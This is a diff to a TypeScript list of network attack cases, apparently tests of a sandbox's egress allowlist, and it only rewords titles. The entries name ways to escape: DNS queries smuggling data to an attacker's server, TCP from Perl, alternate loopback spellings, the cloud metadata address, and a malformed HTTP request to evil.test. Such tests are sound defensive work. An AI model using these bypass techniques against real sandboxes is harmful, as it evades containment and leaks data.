@@ -57,7 +57,7 @@ export const networkAttacks: readonly Attack[] = [
   udp('off-dns', 'smuggles data out in a DNS query', '1.2.3.5', () => 53),
   {
     name: 'off-program',
-    title: 'TCP by a program of its own: Perl',
+    title: 'TCP from Perl',
     attempts: [
       ({port: to, marker}) =>
         perl(
@@ -112,12 +112,12 @@ export const networkAttacks: readonly Attack[] = [
   ),
   tcp('try-listed', 'listed-other-port', 'allowlist: another port of a listed host', ['127.0.0.1', otherPort]),
   tcp('try-listed', 'listed-other-host', 'allowlist: another host on a listed port', ['1.2.3.5', port]),
-  tcp('try-listed', 'listed-loopback6', 'allowlist: another spelling of loopback', ['::1', port]),
+  tcp('try-listed', 'listed-loopback6', 'allowlist: another notation of loopback', ['::1', port]),
   tcp('try-listed', 'listed-loopback-net', 'allowlist: another address of loopback', ['127.0.0.2', port]),
   tcp('try-listed', 'listed-metadata', 'allowlist: the metadata address', ['169.254.169.254', () => metadataPort]),
   tcp('try-listed', 'listed-private', 'allowlist: a neighbour', ['10.11.12.13', port]),
   {...udp('listed-udp', 'allowlist: UDP to a listed host', '1.2.3.4', otherPort), tool: 'try-listed'},
-  {...udp('listed-dns', "allowlist: a DNS query to a server of one's own", '1.2.3.5', () => 53), tool: 'try-listed'},
+  {...udp('listed-dns', "allowlist: a DNS query to the attacker's server", '1.2.3.5', () => 53), tool: 'try-listed'},
   ...(
     [
       ['space', 'a space before an HTTP request', ' GET / HTTP/1.1\r\nHost: evil.test'],
